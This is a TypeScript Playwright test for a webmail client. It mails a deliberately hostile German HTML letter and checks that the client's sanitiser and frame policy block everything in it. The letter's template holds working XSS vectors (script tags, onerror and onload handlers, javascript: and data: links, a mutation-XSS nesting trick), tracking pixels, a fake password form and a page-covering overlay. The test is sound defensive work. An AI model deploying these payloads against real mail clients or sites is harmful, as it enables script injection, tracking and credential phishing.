/** HTML letters that try to run, to call home, to ask for passwords and to lead away. */
import assert from 'node:assert/strict'
import { after, test, type TestContext } from 'node:test'
import type { BrowserContext, Request } from 'playwright-core'
import { openBrowser } from '../browser.ts'
import { openJmapClient } from '../jmap.ts'
import { startPostfix } from '../postfix.ts'
import { startServer } from '../server.ts'
import { compose } from './letters.ts'
import { checkLooks } from './looks.ts'
import { openInbox } from './person.ts'
import { startTrap } from './trap.ts'

const server = await startServer({ after })

/** A picture of one red pixel. */
const logo = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC',
  'base64',
)

const run = "window.pwned=parent.pwned=top.pwned=1;top.document.title='pwned'"

/** Everything that has ever been tried in one letter. @param far  an origin that must hear nothing of it */
const hostile = (far: string): string => `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${far}/refresh">
<base href="${far}/base/" target="_top">
<link rel="stylesheet" href="${far}/link.css"><link rel="icon" href="${far}/icon"><link rel="prefetch" href="${far}/next">
<link rel="preconnect" href="${far}"><link rel="dns-prefetch" href="${far}"><link rel="preload" as="image" href="${far}/early">
<style>@import "${far}/import.css"; @import url(${far}/import2.css);
@font-face { font-family: far; src: url(${far}/far.woff2) } p { font-family: far, serif }
body { background: url(${far}/body.png) } td { background: u\\72l(${far}/escaped.png) }
p::after { content: url(${far}/content.png) } li { list-style-image: url('${far}/bullet.png') }
.bar { position: fixed; inset: 0; background-image: image-set("${far}/set.png" 1x) }</style>
<script>${run};fetch('${far}/fetch')</script><script src="${far}/a.js"></script><script type=module>import '${far}/b.js'</script>
</head><body onload="${run}" background="${far}/background.png">
<p style="background:url(${far}/style.png)">Liebe Kundin, unser Sommerangebot.</p>
<img src="cid:logo@werbung.example" alt="Firmenlogo" width="40" height="40">
<img src="${far}/banner.jpg" alt="Strandkorb" width="600" height="80">
<img src="${far}/pixel.gif?id=4711" width="1" height="1" alt="">
<img src="${far}/one.png" srcset="${far}/two.png 2x" alt="Zwei"><picture><source srcset="${far}/source.webp"><img alt="Drei"></picture>
<img src="x" onerror="${run}" alt=""><svg onload="${run}"><image href="${far}/svg.png"/><use href="${far}/use.svg#a"/><a href="javascript:${run}"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>
<object data="${far}/object"><embed src="${far}/embed"></object><iframe src="${far}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>
<video src="${far}/film" poster="${far}/poster.jpg" autoplay></video><audio src="${far}/sound" autoplay></audio>
<form action="${far}/form" method="post"><label>Passwort <input type="password" name="p" autofocus></label><button formaction="${far}/b">Anmelden</button></form>
<table background="${far}/table.png"><tr><td>Preis</td></tr></table><ul><li>Punkt</li></ul><div class="bar"></div>
<p><a href="javascript:${run}">Los</a> <a href=" java&#9;script:${run}">Weiter</a> <a href="data:text/html,<script>${run}</script>">Mehr</a>
<a href="${far}/angebot" target="_top" ping="${far}/ping">Zum Angebot</a> <a href="${far}/falle" target="mail" onclick="${run}">www.meine-bank.example</a></p>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">Ihre Sitzung ist abgelaufen.</p>
</body></html>`

test('a hostile letter is read without anything in it running, calling home or reaching the page around it', async (t) => {
  const { page, person } = await openInbox(t, server, 'klara', watchLetters)
  // What the letter tries would have it among the unwanted, where less is tried.
  const jmap = await openJmapClient(server, person)
  await jmap.call('AllowedSender/set', { create: { a: { address: '@example.org' } } })
  const trap = await startTrap(t)
  const far = trap.at('bilder.werbung.test')
  const postfix = await startPostfix(t, { relayTo: server.smtp, domain: 'zegel.test' })
  const html = hostile(far)
  const attachments = [{ filename: 'logo.png', content: logo, cid: 'logo@werbung.example' }]
  await postfix.send(
    await compose({ to: person.address, subject: 'Sommerangebot', html, attachments }),
    'werbung@example.org',
    person.address,
  )

  await page.getByRole('row', { name: /Sommerangebot/ }).click()
  const letter = page.getByRole('article', { name: 'Brief' })
  const frame = letter.frameLocator('iframe')
  await frame.getByText('Liebe Kundin, unser Sommerangebot.').waitFor()
  const held = letter.getByText('damit der Absender nicht erfährt, dass Sie lesen')
  assert.match((await held.textContent()) ?? '', /\d+ Bilder von bilder\.werbung\.test wurden nicht geladen/)
  assert.match((await held.textContent()) ?? '', /1 davon ist zu klein zum Sehen und dient nur dem Zählen/)

  // The picture that came with the letter is there, those from elsewhere leave their words.
  const picture = frame.getByRole('img', { name: 'Firmenlogo' })
  await picture.evaluate((image: HTMLImageElement) => image.decode())
  assert.equal(await picture.evaluate((image: HTMLImageElement) => image.naturalWidth), 1)
  assert.equal(await frame.getByRole('img', { name: 'Strandkorb' }).getAttribute('src'), null)
  await checkLooks(page, 'a hostile letter')

  assert.deepEqual(
    await frame
      .locator(
        'script, iframe, object, embed, form, input, button, svg, math, video, audio, link, base, meta[http-equiv=refresh]',
      )
      .evaluateAll((all) => all.map(({ tagName }) => tagName)),
    [],
  )
  const links = await frame
    .locator('a')
    .evaluateAll((all) =>
      all.map((link) => [
        link.textContent,
        ...['href', 'target', 'rel', 'ping', 'onclick'].map((name) => link.getAttribute(name)),
      ]),
    )
  const outside = ['_blank', 'noopener noreferrer', null, null]
  assert.deepEqual(links, [
    ['Los', null, null, null, null, null],
    ['Weiter', null, null, null, null, null],
    ['Mehr', null, null, null, null, null],
    ['Zum Angebot', `${far}/angebot`, ...outside],
    ['www.meine-bank.example (bilder.werbung.test)', `${far}/falle`, ...outside],
  ])
  // What wants to lie over everything lies over its own letter.
  const covered = await page.evaluate(() => document.elementFromPoint(200, 20)?.closest('header') !== null)
  assert.ok(covered, 'the top of the page is still ours')

  for (const text of ['Los', 'Weiter', 'Mehr']) await frame.getByText(text, { exact: true }).click({ force: true })
  await page.reload({ waitUntil: 'networkidle' })
  await frame.getByText('Liebe Kundin, unser Sommerangebot.').waitFor()
  assert.ok(page.url().startsWith(`${server.http}/app/`))
  assert.match(await page.title(), /Zegel$/)
  assert.equal(await page.evaluate("'pwned' in window"), false)
  assert.equal(await frame.locator('body').evaluate(() => 'pwned' in window), false)
  assert.equal(trap.connections(), 0, 'nobody elsewhere has heard anything')

  // The trap is one: a page that is not a letter does reach it.
  const stranger = await (await openBrowser(t)).newPage()
  await stranger.goto(`${far}/control`).catch(() => undefined)
  assert.equal(trap.connections(), 1)
})

/** A letter may want something from elsewhere, as long as the policy of its frame stops it before it leaves. */
function watchLetters(t: TestContext, browser: BrowserContext, origin: string): void {
  const wanted: Request[] = []
  browser.on('request', (request) => {
    const url = new URL(request.url())
    if (/^https?:$/.test(url.protocol) && url.origin !== origin) wanted.push(request)
  })
  t.after(() => {
    const left = wanted.filter((request) => request.failure()?.errorText !== 'csp')
    assert.deepEqual(
      left.map((request) => request.url()),
      [],
      `requests that left ${origin}`,
    )
  })
}
